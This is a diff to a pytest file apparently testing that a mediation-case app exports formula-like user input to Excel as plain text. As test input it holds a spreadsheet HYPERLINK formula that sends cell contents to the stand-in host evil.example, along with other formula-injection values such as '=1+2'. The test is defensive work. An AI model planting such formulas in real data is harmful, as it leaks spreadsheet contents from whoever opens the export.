@@ -7,7 +7,9 @@ from io import BytesIO
 import pytest
 from openpyxl import load_workbook
 
+from app.extensions import db
 from app.plugin_api import local_today
+from tests.conftest import within_station
 
 BASE = "/s/liuxi/mediation"
 LINK = '=HYPERLINK("https://evil.example/?d="&A2,"查看详情")'
@@ -20,9 +22,19 @@ def admin(make_browser, demo):
     return b
 
 
-def test_formula_like_text_is_exported_as_text(admin):
+def test_formula_like_text_is_exported_as_text(app, admin):
+    def a_village_named_like_a_formula():
+        # The station's admin names its villages: a name may start like a formula too.
+        from app.plugin_api import Village
+
+        village = Village(name="@河坝村", position=99)
+        db.session.add(village)
+        db.session.commit()
+        return village.id
+
+    village_id = within_station(app, "liuxi", a_village_named_like_a_formula)
     response = admin.post(f"{BASE}/cases/new", {
-        "title": LINK, "kind": "邻里纠纷", "village": "@河坝村", "source": "walk_in",
+        "title": LINK, "kind": "邻里纠纷", "village_id": str(village_id), "source": "walk_in",
         "opened_on": local_today().isoformat(), "a_name": "=1+2", "b_name": "李小河"})
     assert response.status_code == 302, response.get_data(as_text=True)
     case_id = int(re.search(r"/cases/(\d+)$", response.location).group(1))
